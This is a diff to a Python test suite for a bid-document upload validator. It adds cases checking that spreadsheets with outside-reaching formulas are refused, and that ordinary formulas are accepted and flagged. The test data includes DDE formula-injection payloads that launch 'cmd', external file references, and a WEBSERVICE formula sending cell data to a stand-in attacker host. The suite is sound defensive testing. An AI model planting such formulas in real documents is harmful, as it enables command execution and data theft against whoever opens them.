@@ -15,45 +15,17 @@ from django.urls import reverse
 from bids.documents import MAX_UNCOMPRESSED_BYTES, clean_file_name, document_check
 from bids.models import BidDocument
 from core.exceptions import ApplicationError
+from tests.factories.documents import docx, ods, xlsx, xlsx_with_formula, zipped
 
 pytestmark = pytest.mark.django_db
 
 PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
 
 
-def zipped(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", compression=compression, compresslevel=9) as archive:
-        for name, content in entries.items():
-            archive.writestr(name, content)
-    return buffer.getvalue()
-
-
-def docx(**extra: bytes) -> bytes:
-    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>", **extra})
-
-
-def xlsx(sheet: bytes = b"<worksheet><sheetData/></worksheet>", **extra: bytes) -> bytes:
-    return zipped(
-        {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": sheet}
-        | extra
-    )
-
-
 DDE_CELL = (
     b'<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;x&quot;)">'
     b"<office:dde-source/></table:table-cell>"
 )
-
-
-DDE_CELL = (
-    b'<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;x&quot;)">'
-    b"<office:dde-source/></table:table-cell>"
-)
-
-
-def ods(content: bytes = b"<office:document-content/>", **extra: bytes) -> bytes:
-    return zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content} | extra)
 
 
 def upload(client, bid, name: str, content: bytes):
@@ -173,6 +145,40 @@ def test_a_disguised_name_cannot_smuggle_another_extension():
             "links to other files or programs",
         ),
         ("budget.ods", ods(**{"Basic/Standard/Module1.xml": b"<script/>"}), "contains macros"),
+        # Formulas that reach outside the workbook, with no external-link part to give them away.
+        *(
+            (
+                "budget.xlsx",
+                xlsx(
+                    f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f><v>0</v></c></row>'
+                    "</sheetData></worksheet>".encode()
+                ),
+                "links to other files or programs",
+            )
+            for formula in (
+                "cmd|&apos; /C calc&apos;!A0",
+                "SUM(1+1)*cmd|' /C calc'!A0",
+                "&apos;C:\\secret\\[book.xlsx]Sheet1&apos;!A1",
+                "[1]Sheet1!A1",
+                "_xlfn.WEBSERVICE(&quot;http://evil.example/?&quot;&amp;B1)",
+                "RTD(&quot;prog.id&quot;,,&quot;x&quot;)",
+            )
+        ),
+        (
+            "budget.xlsx",
+            xlsx(
+                **{
+                    "xl/workbook.xml": b"<workbook><definedNames><definedName name='x'>[1]Sheet1!$A$1"
+                    b"</definedName></definedNames></workbook>"
+                }
+            ),
+            "links to other files or programs",
+        ),
+        (
+            "budget.ods",
+            ods(b'<table:table-cell table:formula="of:=[&apos;file:///C:/secret.ods&apos;#$Sheet1.A1]"/>'),
+            "links to other files or programs",
+        ),
     ],
 )
 def test_formula_injection_macros_and_external_links_are_refused(draft, lead_user, client, name, content, message):
@@ -194,6 +200,21 @@ def test_formula_injection_macros_and_external_links_are_refused(draft, lead_use
 )
 def test_csv_numbers_and_phone_numbers_with_signs_are_not_formulas(content):
     assert check("data.csv", content).has_formulas is False
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "SUM(A1:A3)*1.2",
+        "SUM(Table1[Amount])+Sheet2!A1",
+        "Table1[[#This Row],[Cost]]*2",
+        "&apos;Staff costs&apos;!B4+B5",
+        "IF(A1=&quot;a|b [1]x!&quot;,1,0)",  # the signs of an outside reference, inside a string
+        "CONCAT(&quot;call(&quot;,A1)",
+    ],
+)
+def test_a_spreadsheets_own_formulas_are_taken_and_marked(formula):
+    assert check("budget.xlsx", xlsx_with_formula(formula)).has_formulas is True
 
 
 def test_spreadsheet_formulas_are_allowed_and_marked_on_every_page_that_offers_the_file(draft, lead_user, client):
